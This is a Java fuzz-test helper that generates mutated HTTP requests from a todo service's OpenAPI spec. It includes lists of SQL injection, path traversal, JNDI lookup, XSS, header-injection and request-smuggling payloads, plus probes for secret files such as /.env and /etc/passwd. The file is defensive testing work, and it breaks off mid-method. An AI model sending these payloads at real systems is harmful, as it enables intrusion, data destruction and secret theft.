package dev.todoservice.web;

import java.io.ByteArrayOutputStream;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;

import tools.jackson.databind.JsonNode;

import org.springframework.util.NumberUtils;

/**
 * The fuzz test's requests, generated from the service's own OpenAPI document: every
 * documented operation with its path, query and header parameters and a body built from
 * its request schema, most of them mutated into something hostile, plus wrong methods,
 * unknown paths and bytes only a socket sends.
 * <p>
 * Request {@code i} depends only on the seed, {@code i} and the target ids, so a failure
 * replays with the same seed whatever order the threads sent the requests in.
 * <p>
 * Left out: what RFC 9110/9112 themselves answer with a 5xx (CONNECT and an unknown
 * transfer coding: 501; an unknown HTTP version: 505), and {@code OPTIONS *}, which
 * Tomcat's connector answers alone, empty, before any valve or filter.
 * {@code HostileInputIntegrationTests} covers the first ones.
 */
final class FuzzRequests {

	/**
	 * A request to send. {@code target} is the fuzz's own todo it aims at, or null; raw
	 * ones are socket bytes.
	 */
	record FuzzRequest(int index, String kind, String method, String path, List<String> headers, byte[] body,
			Long target, boolean absentTarget, byte[] raw) {

		boolean isRaw() {
			return this.raw != null;
		}

		String header(String name) {
			for (int i = 0; i < this.headers.size(); i += 2) {
				if (this.headers.get(i).equalsIgnoreCase(name)) {
					return this.headers.get(i + 1);
				}
			}
			return null;
		}

		/** The size of the request line and headers, as sent. */
		int headBytes() {
			if (this.raw != null) {
				int end = new String(this.raw, StandardCharsets.ISO_8859_1).indexOf("\r\n\r\n");
				return (end >= 0) ? end : this.raw.length;
			}
			int size = this.method.length() + this.path.length() + 12;
			for (String part : this.headers) {
				size += part.getBytes(StandardCharsets.UTF_8).length + 2;
			}
			return size;
		}

		/**
		 * The same request as socket bytes, for what {@link java.net.http.HttpClient}
		 * refuses to send.
		 */
		byte[] toRaw(int port) {
			if (this.raw != null) {
				return this.raw;
			}
			StringBuilder head = new StringBuilder(this.method + " " + this.path + " HTTP/1.1\r\n");
			if (header("Host") == null) {
				head.append("Host: 127.0.0.1:").append(port).append("\r\n");
			}
			for (int i = 0; i < this.headers.size(); i += 2) {
				head.append(this.headers.get(i)).append(": ").append(this.headers.get(i + 1)).append("\r\n");
			}
			if (this.body != null && header("Content-Length") == null && header("Transfer-Encoding") == null) {
				head.append("Content-Length: ").append(this.body.length).append("\r\n");
			}
			head.append("Connection: close\r\n\r\n");
			ByteArrayOutputStream bytes = new ByteArrayOutputStream();
			bytes.writeBytes(head.toString().getBytes(StandardCharsets.UTF_8));
			if (this.body != null) {
				bytes.writeBytes(this.body);
			}
			return bytes.toByteArray();
		}

		@Override
		public String toString() {
			if (this.raw != null) {
				return "#" + this.index + " " + this.kind + ": raw " + printable(this.raw, 300);
			}
			return "#" + this.index + " " + this.kind + ": " + this.method + " " + printable(this.path, 300) + " "
					+ printable(String.join(", ", this.headers), 300)
					+ ((this.body != null) ? " body " + this.body.length + " bytes " + printable(this.body, 300) : "");
		}

	}

	private record Operation(String method, String path, JsonNode spec) {
	}

	private static final List<String> METHODS = List.of("get", "put", "post", "delete", "patch", "head", "options",
			"trace");

	private static final String[] SQL_INJECTION = { "' OR '1'='1", "'; DROP TABLE todo; --", "1; SELECT pg_sleep(5)--",
			"1' AND 1=CAST((SELECT version()) AS int)--", "\" OR \"\"=\"", "1 UNION SELECT null, null, null, null--",
			"') OR ('a'='a", "admin'--", "1)) OR 1=1--", "%27%20OR%201%3D1", "$$; DELETE FROM todo; $$",
			"1'; COPY todo TO '/tmp/x'; --", "' || (SELECT current_user) || '", "\\'; TRUNCATE todo; --" };

	private static final String[] TRAVERSAL = { "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini",
			"%2e%2e%2f%2e%2e%2fetc%2fpasswd", "....//....//etc/passwd", "/etc/passwd%00.json", "..%252f..%252fetc",
			"..;/..;/actuator/env", "/actuator/env", "file:///etc/passwd", "..%c0%af..%c0%afetc", "/../../", "." };

	private static final String[] UNICODE = { "\u0000", "a\u0000b", "\ud800", "x\udc00y", "\udfff\ud800", "\ud83d",
			"\uffff", "\ufffe", "\u202egnp.exe", "\ufeff", "\u200b\u200b", "e\u0301\u0301\u0301", "\r\n", "\t",
			"\u001b[31m", "<script>alert(1)</script>", "${jndi:ldap://x/a}", "{{7*7}}", "%s%n%x", "\u0085\u2028",
			"😀".repeat(60), "\uff11", "ǅ", "İ", "\u0000".repeat(20) };

	private static final String[] NUMBERS = { "-1", "0", "-0", "-9223372036854775808", "9223372036854775807",
			"9223372036854775808", "-9223372036854775809", "1e308", "1e309", "0x10", "1.5", "NaN", "Infinity", "+1",
			"1_000", "99999999999999999999999999999999999999", "1" + "0".repeat(5_000), "٣", "1 ", " 1", "" };

	private static final String[] RAW_NUMBERS = { "9223372036854775808", "-9223372036854775809", "1e999999",
			"-1e-999999", "1.7976931348623157e309", "0." + "0".repeat(2_000) + "1", "1" + "0".repeat(999),
			"9".repeat(1_001), "9".repeat(20_000), "-0", "1E+2147483648" };

	private static final long[] ABSENT_IDS = { Long.MAX_VALUE, Long.MAX_VALUE - 1, 0, -1, Long.MIN_VALUE,
			4_000_000_000_000_000_000L, 999_999_999_999L };

	private static final String[] ALPHABET = { "a", "b", "c", "x", "y", "z", "A", "Q", "Z", "0", "1", "7", " ", " ",
			"-", "_", ".", ",", "!", "?", "'", "\"", "\\", "/", "<", ">", "&", "%", "é", "ß", "ø", "漢", "字", "😀", "\t",
			"\n", "€", "∑" };

	private static final String[] WRONG_CONTENT_TYPES = { null, "text/plain", "application/xml",
			"application/x-www-form-urlencoded", "multipart/form-data; boundary=zz",
			"application/json; charset=ISO-8859-1", "application/json; charset=nonsense",
			"application/json; charset=UTF-16", "a/b/c", "application/", "*/*", "application/merge-patch+json",
			"text/json", "application/jsonx", "application/json;;", ";", "application/json; boundary=\"",
			"APPLICATION/JSON" };

	private static final String[] ACCEPTS = { "text/csv", "application/xml", "text/html", "*/*", "application/json",
			"application/problem+json", "application/yaml", "garbage", "application/json;q=0", "*/*;q=abc", "",
			"text/*", "application/*", "image/png, */*;q=0.1" };

	private static final String[] PREFERS = { null, "wait=1", "return=minimal", "respond-async, wait=5",
			"RESPOND-ASYNC", "respond-async;x=y", "handling=lenient", "respond-async=false", "wait=-1",
			"wait=99999999999999999999", ";;;", "respond-async" + ",".repeat(500) };

	private static final String[] IF_MATCHES = { "\"1\"", "\"2\"", "*", "W/\"1\"", "\"abc\"",
			"\"" + "9".repeat(30) + "\"", "\"1\", \"2\"", "garbage", "\"", "\"-1\"", "\"0\"", ",,,", "*, \"1\"",
			"\"1\"" + ", \"2\"".repeat(300), "W/*", "\"\\\"\"" };

	/**
	 * Keys the service must refuse (400); a valid one would be reused across requests,
	 * which is no fuzz.
	 */
	// No non-ASCII key here: Java's HTTP client sends "ümlaut" as "?mlaut", a valid key
	// that several requests would share, so a later create is refused at apply time
	// after its 202 (as documented). A raw request below sends one as UTF-8.
	private static final String[] BAD_KEYS = { "", " ", "has space", "k".repeat(256), "tab\tkey", "k".repeat(10_000),
			"\u007f" };

	private static final String[][] EXTRA_HEADERS = { { "X-Forwarded-For", "127.0.0.1, ' OR 1=1--" },
			{ "X-Forwarded-Host", "evil.example" }, { "X-Forwarded-Proto", "gopher" },
			{ "Forwarded", "for=\"_x\";by=;" }, { "X-HTTP-Method-Override", "DELETE" },
			{ "Origin", "https://evil.example" }, { "Cookie", "JSESSIONID=../../" },
			{ "Authorization", "Bearer ' OR 1=1--" }, { "Range", "bytes=0-1,-1,1-0" },
			{ "Accept-Encoding", "gzip;q=x" }, { "Accept-Charset", "utf-1024" }, { "Content-Encoding", "gzip" },
			{ "Accept-Language", "../../etc" }, { "Expect", "garbage" }, { "Host", "evil.example" },
			{ "Content-Length", "0" }, { "X-Null", "a\u0000b" }, { "X-Newline", "a\r\nInjected: yes" },
			{ "X-Long", "v".repeat(7_000) } };

	private static final String[] UNKNOWN_PATHS = { "/todos/1/extra", "/todos/x/y/z", "/TODOS/", "/todos.json",
			"/todos/1.json", "/actuator/env", "/actuator/heapdump", "/actuator/beans", "/actuator/loggers",
			"/actuator/threaddump", "/actuator/configprops", "/actuator", "/error", "/WEB-INF/web.xml",
			"/META-INF/MANIFEST.MF", "/.env", "/.git/config", "/swagger-ui/../../etc/passwd", "/openapi.json/../todos",
			"/v3/api-docs", "/index.html", "/favicon.ico", "/docs/../actuator/env", "/%2e%2e/%2e%2e/etc/passwd",
			"/todos/%252e%252e", "/todos/?limit=1&limit=2&limit=3", "/openapi.yaml", "/error/500" };

	private static final String[] RAW_TARGETS = { "/todos/%zz", "/todos/%", "/todos/%0", "/todos/%00",
			"/todos/..%2F..%2Fetc%2Fpasswd", "/todos/..%5c..%5cwindows", "/todos/\u0001", "/todos/\u00ff\u00fe",
			"/todos/\u00c3\u0028", "/todos/?limit=%zz", "/todos/?limit=%", "/todos/?completed=%ff%fe",
			"/todos/?after=%00", "/todos/?limit=1&limit=%GG", "//todos/", "/todos//", "/./todos/", "/%2e/todos/", "*",
			"http://evil.example/todos/", "/todos/" + "a".repeat(9_000), "/todos/?" + "a=1&".repeat(2_000),
			"/todos/;jsessionid=x", "/todos/?%=%", "/todos/?=", "/todos/?&&&", "/todos/\u007f", "/todos/ x",
			"/todos/#frag", "/todos/%u0041", "/todos/?limit=%C0%AF" };

	private static final String[] RAW_REQUESTS = {
			"GET /todos/ HTTP/1.1\r\nHost: x\r\nBad Header: y\r\nConnection: close\r\n\r\n",
			"GET /todos/ HTTP/1.1\r\nHost: x\r\nX-Big: " + "a".repeat(20_000) + "\r\nConnection: close\r\n\r\n",
			"GET /todos/ HTTP/1.1\r\nHost: x\r\n" + "X-N: v\r\n".repeat(200) + "Connection: close\r\n\r\n",
			"GET /todos/ HTTP/1.0\r\n\r\n", "GET /todos/ HTTP/1.1\r\nConnection: close\r\n\r\n",
			"GET /todos/ HTTP/1.1\r\nHost: a\r\nHost: b\r\nConnection: close\r\n\r\n",
			"G@T /todos/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
			"get /todos/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
			"GET  /todos/  HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
			"GET /todos/ HTTP/1.1\nHost: x\nConnection: close\n\n",
			"GET /todos/ HTTP/1.1\r\nHost: x\r\n Folded: y\r\nConnection: close\r\n\r\n",
			"GET /todos/ HTTP/1.1\r\nHost: x\r\nX: a\u0000b\r\nConnection: close\r\n\r\n",
			"GET /todos/ HTTP/1.1\r\nHost: x\r\nX\u00ff: y\r\nConnection: close\r\n\r\n",
			"POST /todos/ HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 2\r\n"
					+ "Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\n",
			"POST /todos/ HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n"
					+ "Connection: close\r\n\r\nzz\r\n{}\r\n0\r\n\r\n",
			"POST /todos/ HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n"
					+ "Connection: close\r\n\r\n2;ext=\u0001\r\n{}\r\n0\r\n\r\n",
			"POST /todos/ HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n"
					+ "Connection: close\r\n\r\nFFFFFFFFFFFFFFFFFF\r\n{}\r\n0\r\n\r\n",
			"POST /todos/ HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: -1\r\n"
					+ "Connection: close\r\n\r\n{}",
			"POST /todos/ HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1, 2\r\n"
					+ "Connection: close\r\n\r\n{}",
			"POST /todos/ HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 2\r\n"
					+ "Content-Length: 3\r\nConnection: close\r\n\r\n{}",
			"POST /todos/ HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
					+ "Content-Length: 99999999999999999999\r\nConnection: close\r\n\r\n{}",
			// Invalid UTF-8 in the body: three single bytes, so 16 bytes in all.
			"POST /todos/ HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 16\r\n"
					+ "Connection: close\r\n\r\n{\"title\": \"\u00ff\u00fe\u00c3\"}",
			"POST /todos/ HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 2\r\n"
					+ "Expect: garbage\r\nConnection: close\r\n\r\n{}",
			// Idempotency-Key "ümlaut" in UTF-8.
			"POST /todos/ HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 2\r\n"
					+ "Idempotency-Key: \u00c3\u00bcmlaut\r\nConnection: close\r\n\r\n{}",
			"DELETE /todos/999999999999999 HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\nConnection: close\r\n\r\n" };

	private final List<Operation> operations = new ArrayList<>();

	private final JsonNode schemas;

	private final List<Long> targets;

	private final String marker;

	private final long seed;

	/**
	 * @param document the service's OpenAPI document
	 * @param targets the todos the fuzz created for itself, the only existing ones it
	 * aims at; DELETE aims only at the first half, so the others live through the run and
	 * get read and changed
	 * @param marker the start of every title the fuzz sends, so its rows can be told from
	 * others
	 * @param seed the seed of the run
	 */
	FuzzRequests(JsonNode document, List<Long> targets, String marker, long seed) {
		for (Map.Entry<String, JsonNode> path : document.path("paths").properties()) {
			for (String method : METHODS) {
				// A stream never ends: its body would hold a fuzz thread until the
				// stream's own timeout.
				if (path.getValue().has(method)
						&& !path.getValue().get(method).toString().contains("text/event-stream")) {
					this.operations.add(
							new Operation(method.toUpperCase(Locale.ROOT), path.getKey(), path.getValue().get(method)));
				}
			}
		}
		if (this.operations.isEmpty()) {
			throw new IllegalArgumentException("No operations in " + document);
		}
		this.schemas = document.path("components").path("schemas");
		this.targets = List.copyOf(targets);
		this.marker = marker;
		this.seed = seed;
	}

	/** The documented operations, as "METHOD path". */
	List<String> operations() {
		return this.operations.stream().map((operation) -> operation.method() + " " + operation.path()).toList();
	}

	/** Request {@code index} of the run. */
	FuzzRequest next(int index) {
		return new Generator(index, new Random(this.seed ^ (index * 0x9E3779B97F4A7C15L))).request();
	}

	/** The state of one request's generation. */
	private final class Generator {

		private final int index;

		private final Random random;

		private final List<String> kinds = new ArrayList<>();

		private final List<String> headers = new ArrayList<>();

		private Long target;

		private boolean absentTarget;

		Generator(int index, Random random) {
			this.index = index;
			this.random = random;
		}

		FuzzRequest request() {
			double roll = this.random.nextDouble();
			if (roll < 0.04) {
				return raw();
			}
			if (roll < 0.07) {
				return wrongMethod();
			}
			if (roll < 0.09) {
				this.kinds.add("unknown-path");
				String method = pick(new String[] { "GET", "GET", "POST", "DELETE", "PUT" });
				return build(method, pick(UNKNOWN_PATHS), method.equals("GET") ? null : json(validTodo()));
			}
			return fromOperation(weighted());
		}

		private FuzzRequest raw() {
			this.kinds.add("raw");
			String request = (this.random.nextBoolean()) ? pick(RAW_REQUESTS)
					: pick(new String[] { "GET", "HEAD", "DELETE" }) + " " + pick(RAW_TARGETS)
							+ " HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n";
			return new FuzzRequest(this.index, "raw", null, null, List.of(), null, null, false,
					request.getBytes(StandardCharsets.ISO_8859_1));
		}

		private FuzzRequest wrongMethod() {
			this.kinds.add("wrong-method");
			Operation operation = pick(FuzzRequests.this.operations);
			List<String> documented = FuzzRequests.this.operations.stream()
				.filter((other) -> other.path().equals(operation.path()))
				.map(Operation::method)
				.toList();
			String method;
			do {
				method = pick(new String[] { "GET", "POST", "PUT", "PATCH", "DELETE", "TRACE", "FOO", "PROPFIND" });
			}
			while (documented.contains(method));
			String path = operation.path().contains("{id}") ? operation.path().replace("{id}", pathId(method))
					: operation.path();
			return build(method, path, this.random.nextBoolean() ? json(validTodo()) : null);
		}

		private FuzzRequest fromOperation(Operation operation) {
			String path = operation.path();
			StringBuilder query = new StringBuilder();
			for (JsonNode parameter : operation.spec().path("parameters")) {
				String name = parameter.path("name").asString();
				JsonNode schema = resolve(parameter.path("schema"));
				switch (parameter.path("in").asString()) {
					case "path" -> path = path.replace("{" + name + "}", pathId(operation.method()));
					case "query" -> {
						if (this.random.nextDouble() < 0.5) {
							query.append(query.isEmpty() ? "?" : "&")
								.append(name)
								.append('=')
								.append(encode(queryValue(schema)));
						}
					}
					case "header" -> header(name, operation.method());
					default -> {
					}
				}
			}
			if (!operation.spec().path("parameters").isEmpty() && this.random.nextDouble() < 0.08) {
				this.kinds.add("extra-param");
				query.append(query.isEmpty() ? "?" : "&")
					.append(pick(new String[] { "sort", "size", "page", "id", "title", "limit", "after" }))
					.append('=')
					.append(encode(hostileString()));
			}
			if (operation.method().equals("GET") && path.matches("/todos/.+") && this.random.nextDouble() < 0.1) {
				this.headers.addAll(List.of("If-None-Match", pick(IF_MATCHES)));
			}
			if (this.random.nextDouble() < 0.15) {
				this.kinds.add("accept");
				this.headers.addAll(List.of("Accept", pick(ACCEPTS)));
			}
			if (this.random.nextDouble() < 0.15) {
				String[] header = EXTRA_HEADERS[this.random.nextInt(EXTRA_HEADERS.length)];
				this.kinds.add("header-" + header[0]);
				this.headers.addAll(List.of(header[0], header[1]));
			}
			byte[] body = null;
			JsonNode content = operation.spec().path("requestBody").path("content");
			if (!content.isMissingNode()) {
				body = body(content);
			}
			else if (this.random.nextDouble() < 0.03) {
				this.kinds.add("unexpected-body");
				this.headers.addAll(List.of("Content-Type", "application/json"));
				body = json(validTodo());
			}
			return build(operation.method(), path + query, body);
		}

		private FuzzRequest build(String method, String path, byte[] body) {
			String kind = this.kinds.isEmpty() ? "valid" : String.join("+", this.kinds);
			return new FuzzRequest(this.index, kind, method, path, List.copyOf(this.headers), body, this.target,
					this.absentTarget, null);
		}

		/**
		 * Writes, reads and lists more often than the greeting; deletes seldom, so todos
		 * live long enough.
		 */
		private Operation weighted() {
			int total = 0;
			int[] weights = new int[FuzzRequests.this.operations.size()];
			for (int i = 0; i < weights.length; i++) {
				Operation operation = FuzzRequests.this.operations.get(i);
				boolean item = operation.path().contains("{");
				weights[i] = switch (operation.method()) {
					case "GET" -> item ? 9 : (operation.path().equals("/") ? 1 : 6);
					case "POST" -> 12;
					case "PUT", "PATCH" -> 9;
					case "DELETE" -> 3;
					default -> 1;
				};
				total += weights[i];
			}
			int roll = this.random.nextInt(total);
			for (int i = 0; i < weights.length; i++) {
				roll -= weights[i];
				if (roll < 0) {
					return FuzzRequests.this.operations.get(i);
				}
			}
			throw new IllegalStateException();
		}

		/**
		 * Mostly the fuzz's own todos; else an id that cannot exist or text that is no id
		 * at all.
		 */
		private String pathId(String method) {
			double roll = this.random.nextDouble();
			List<Long> targets = FuzzRequests.this.targets;
			if (roll < 0.6) {
				List<Long> candidates = method.equals("DELETE") ? targets.subList(0, targets.size() / 2) : targets;
				this.target = pick(candidates);
				return String.valueOf(this.target);
			}
			if (roll < 0.75) {
				this.kinds.add("absent-id");
				this.absentTarget = true;
				return String.valueOf(ABSENT_IDS[this.random.nextInt(ABSENT_IDS.length)]);
			}
			this.kinds.add("hostile-id");
			String text = hostileString();
			if (resolvesToAnId(text)) {
				text = "x" + text;
			}
			this.absentTarget = true;
			boolean plain = text.matches("[A-Za-z0-9._~!$&'()*+,=:@/-]+");
			return (plain && this.random.nextBoolean()) ? text : encode(text);
		}

		private void header(String name, String method) {
			boolean write = !method.equals("GET");
			switch (name) {
				case "Prefer" -> {
					if (write && this.random.nextDouble() < 0.85) {
						this.headers.addAll(List.of(name, "respond-async"));
					}
					else if (this.random.nextDouble() < 0.5) {
						String prefer = pick(PREFERS);
						if (prefer != null) {
							this.kinds.add("prefer");
							this.headers.addAll(List.of(name, prefer));
						}
					}
				}
				case "Idempotency-Key" -> {
					if (this.random.nextDouble() < 0.25) {
						// A valid key is never reused: each is a new request, not a
						// retry.
						boolean valid = this.random.nextBoolean();
						this.kinds.add(valid ? "key" : "bad-key");
						this.headers.addAll(
								List.of(name,
										valid ? FuzzRequests.this.marker + "-"
												+ Long.toHexString(this.random.nextLong()) + "-" + this.index
												: pick(BAD_KEYS)));
					}
				}
				case "If-Match" -> {
					if (this.random.nextDouble() < 0.25) {
						this.kinds.add("if-match");
						this.headers.addAll(List.of(name, pick(IF_MATCHES)));
					}
				}
				default -> {
					if (this.random.nextDouble() < 0.3) {
						this.headers.addAll(List.of(name, hostileString()));
					}
				}
			}
		}

		private String queryValue(JsonNode schema) {
			if (this.random.nextDouble() < 0.6) {
				return String.valueOf(validValue("", schema));
			}
			this.kinds.add("hostile-query");
			return (this.random.nextDouble() < 0.05) ? "q".repeat(this.random.nextInt(9_000)) : hostileString();
		}

		private byte[] body(JsonNode content) {
			List<String> types = new ArrayList<>();
			content.propertyNames().forEach(types::add);
			String type = pick(types);
			JsonNode schema = resolve(content.path(type).path("schema"));
			Map<String, Object> todo = validInstance(schema);
			byte[] body;
			if (this.random.nextDouble() < 0.35) {
				body = json(todo);
			}
			else {
				body = mutate(todo);
			}
			if (this.random.nextDouble() < 0.12) {
				this.kinds.add("content-type");
				type = pick(WRONG_CONTENT_TYPES);
			}
			if (type != null) {
				this.headers.addAll(List.of("Content-Type", type));
			}
			return body;
		}

		/**
		 * One of the ways a body goes wrong; titles that are strings still start with the
		 * marker.
		 */
		private byte[] mutate(Map<String, Object> todo) {
			String mark = FuzzRequests.this.marker;
			int mutation = this.random.nextInt(15);
			switch (mutation) {
				case 0 -> {
					this.kinds.add("truncated");
					byte[] whole = json(todo);
					return java.util.Arrays.copyOf(whole, this.random.nextInt(Math.max(1, whole.length)));
				}
				case 1 -> {
					this.kinds.add("deep");
					int depth = pick(new Integer[] { 64, 999, 1_001, 5_000, 20_000 });
					String open = this.random.nextBoolean() ? "[" : "{\"a\":";
					String close = open.equals("[") ? "]" : "}";
					String nested = open.repeat(depth) + "1" + close.repeat(depth);
					if (this.random.nextBoolean()) {
						return nested.getBytes(StandardCharsets.UTF_8);
					}
					todo.put(pick(new String[] { "title", "description", "completed", "extra" }), new Raw(nested));
				}
				case 2 -> {
					this.kinds.add("wrong-type");
					todo.put(pick(new String[] { "title", "description", "completed" }), pick(new Object[] { 123, -1,
							1.5, true, List.of(), Map.of(), List.of("a"), Map.of("x", 1), "yes", null }));
				}
				case 3 -> {
					this.kinds.add("huge-number");
					todo.put(pick(new String[] { "title", "completed", "id", "version" }), new Raw(pick(RAW_NUMBERS)));
				}
				case 4 -> {
					this.kinds.add("negative");
					todo.put(pick(new String[] { "id", "completed", "version", "limit" }),
							pick(new Object[] { -1, Long.MIN_VALUE, -0.0, -1e300 }));
				}
				case 5 -> {
					this.kinds.add("overlong");
					if (this.random.nextDouble() < 0.1) {
						todo.put("description", "m".repeat(1024 * 1024));
					}
					else if (this.random.nextBoolean()) {
						todo.put("title", mark + text(101 - mark.length(), 5_000));
					}
					else {
						todo.put("description", text(256, 60_000));
					}
				}
				case 6 -> {
					this.kinds.add("invalid-utf8");
					return invalidUtf8(json(todo));
				}
				case 7 -> {
					this.kinds.add("nul-surrogate");
					todo.put(
							this.random
								.nextBoolean() ? "title" : "description",
							new Raw("\"" + mark + pick(new String[] { "\\u0000", "\u0000", "\\ud800", "\\udc00x",
									"\\ud83d", "\\udfff\\ud800", "a\\u0000b", "\u0001\u001f" }) + "\""));
				}
				case 8 -> {
					this.kinds.add("sql-injection");
					todo.put("title", mark + " " + pick(SQL_INJECTION));
					todo.put("description", pick(SQL_INJECTION));
				}
				case 9 -> {
					this.kinds.add("traversal");
					todo.put("title", mark + " " + pick(TRAVERSAL));
					todo.put("description", pick(TRAVERSAL));
				}
				case 10 -> {
					this.kinds.add("duplicate-keys");
					String first = new String(json(todo), StandardCharsets.UTF_8);
					String duplicate = pick(new String[] { "\"title\": \"" + mark + " again\"", "\"completed\": true",
							"\"description\": null", "\"x\": {\"a\": 1, \"a\": 2}" });
					return (first.substring(0, first.length() - 1) + (todo.isEmpty() ? "" : ", ") + duplicate + ", "
							+ duplicate + "}")
						.getBytes(StandardCharsets.UTF_8);
				}
				case 11 -> {
					this.kinds.add("extra-fields");
					todo.put("id", this.random.nextLong());
					todo.put(
							pick(new String[] { "version", "createdAt", "owner", "__proto__", "constructor", "TITLE",
									"title ", "@type", "class" }),
							pick(new Object[] { 99, "admin", Map.of("admin", true), "java.lang.Runtime",
									List.of(1, 2) }));
				}
				case 12 -> {
					this.kinds.add("not-an-object");
					return pick(new String[] { "", " ", "null", "[]", "[{\"title\": \"" + mark + "\"}]",
							"\"" + mark + "\"", "123", "true", "{}", "{\"title\": \"" + mark + "\"} garbage",
							"{\"title\": \"" + mark + "\"}{}", "{'title': '" + mark + "'}", "{title: \"" + mark + "\"}",
							"NaN", "\u0000", "{\"title\": \"" + mark + "\",}", "\ufeff{\"title\": \"" + mark + "\"}",
							"{\"title\": \"" + mark + "\" /* c */}", "{\"title\" \"" + mark + "\"}" })
						.getBytes(StandardCharsets.UTF_8);
				}
				case 13 -> {
					this.kinds.add("unicode");
					todo.put("title", mark + pick(UNICODE));
					todo.put("description", pick(UNICODE));
				}
				default -> {
					this.kinds.add("many-fields");
					for (int i = 0; i < 1 + this.random.nextInt(3_000); i++) {
						todo.put("f" + i, i);
					}
				}
			}
			return json(todo);
		}

		/**
		 * Puts bytes that are no UTF-8 inside the first string of the body (after the
		 * marker, if there).
		 */
		private byte[] invalidUtf8(byte[] body) {
			byte[] bad = pick(new byte[][] { { (byte) 0xC3, 0x28 }, { (byte) 0xFF },
					{ (byte) 0xED, (byte) 0xA0, (byte) 0x80 }, { (byte) 0xC0, (byte) 0xAF },
					{ (byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80 }, { (byte) 0xE2, (byte) 0x82 },
					{ (byte) 0xFE, (byte) 0xFF } });
			String text = new String(body, StandardCharsets.UTF_8);
			int at = text.indexOf(FuzzRequests.this.marker);
			int position = (at >= 0)
					? (text.substring(0, at) + FuzzRequests.this.marker).getBytes(StandardCharsets.UTF_8).length
					: this.random.nextInt(body.length + 1);
			ByteArrayOutputStream bytes = new ByteArrayOutputStream();
			bytes.write(body, 0, position);
			bytes.writeBytes(bad);
			bytes.write(body, position, body.length - position);
			return bytes.toByteArray();
		}

		private Map<String, Object> validTodo() {
			Map<String, Object> todo = new LinkedHashMap<>();
			todo.put("title", FuzzRequests.this.marker + text(0, 20));
			return todo;
		}

		/**
		 * An instance of an object schema: required properties, and each other one
		 * mostly.
		 */
		private Map<String, Object> validInstance(JsonNode schema) {
			Map<String, Object> instance = new LinkedHashMap<>();
			List<String> required = new ArrayList<>();
			schema.path("required").forEach((name) -> required.add(name.asString()));
			for (Map.Entry<String, JsonNode> property : schema.path("properties").properties()) {
				if (required.contains(property.getKey()) || this.random.nextDouble() < 0.7) {
					instance.put(property.getKey(), validValue(property.getKey(), resolve(property.getValue())));
				}
			}
			return instance;
		}

		private Object validValue(String name, JsonNode schema) {
			List<String> types = new ArrayList<>();
			if (schema.path("type").isArray()) {
				schema.path("type").forEach((type) -> types.add(type.asString()));
			}
			else {
				types.add(schema.path("type").asString("string"));
			}
			if (types.contains("null") && this.random.nextDouble() < 0.15) {
				return null;
			}
			String type = types.get(0).equals("null") ? types.get(types.size() - 1) : types.get(0);
			switch (type) {
				case "integer" -> {
					long min = schema.path("minimum").asLong(0);
					long max = schema.path("maximum").asLong(min + 10_000);
					return min + (long) (this.random.nextDouble() * (max - min + 1));
				}
				case "boolean" -> {
					return this.random.nextBoolean();
				}
				case "object" -> {
					return validInstance(schema);
				}
				default -> {
					int max = schema.path("maxLength").asInt(50);
					if (name.equals("title")) {
						String mark = FuzzRequests.this.marker;
						return mark + text(0, max - mark.length());
					}
					return text(schema.path("minLength").asInt(0), max);
				}
			}
		}

		/**
		 * Text of {@code min} to {@code max} UTF-16 units, mostly short, from a mixed
		 * alphabet.
		 */
		private String text(int min, int max) {
			int length = (this.random.nextBoolean()) ? min + this.random.nextInt(Math.min(10, max - min) + 1)
					: min + this.random.nextInt(max - min + 1);
			StringBuilder text = new StringBuilder();
			while (text.length() < length) {
				String next = pick(ALPHABET);
				if (text.length() + next.length() > length) {
					next = "a";
				}
				text.append(next);
			}
			return text.toString();
		}

		private String hostileString() {
			String[][] families = { SQL_INJECTION, TRAVERSAL, UNICODE, NUMBERS };
			return pick(families[this.random.nextInt(families.length)]);
		}

		private <T> T pick(T[] values) {
			return values[this.random.nextInt(values.length)];
		}

		private <T> T pick(List<T> values) {
			return values.get(this.random.nextInt(values.size()));
		}

	}

	private JsonNode resolve(JsonNode schema) {
		String ref = schema.path("$ref").asString("");
		return ref.startsWith("#/components/schemas/") ? this.schemas.path(ref.substring(21)) : schema;
	}

	/**
	 * True when Spring would read the text as a number, so it could name an existing
	 * todo.
	 */
	private static boolean resolvesToAnId(String text) {
		String id = text.split("[;/?#]", 2)[0];
		try {
			NumberUtils.parseNumber(id, Long.class);
			return true;
		}
		catch (IllegalArgumentException ex) {
			return id.isBlank();
		}
	}

	private static String encode(String value) {
		return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
	}

	/** JSON text inserted as it is, for what a JSON writer would never write. */
	private record Raw(String json) {
	}

	private static byte[] json(Map<String, Object> value) {
		StringBuilder json = new StringBuilder();
		write(json, value);
		return json.toString().getBytes(StandardCharsets.UTF_8);
	}

	private static void write(StringBuilder json, Object value) {
		if (value == null) {
			json.append("null");
		}
		else if (value instanceof Raw raw) {
			json.append(raw.json());
		}
		else if (value instanceof String text) {
			json.append('"');
			for (char c : text.toCharArray()) {
				switch (c) {
					case '"' -> json.append("\\\"");
					case '\\' -> json.append("\\\\");
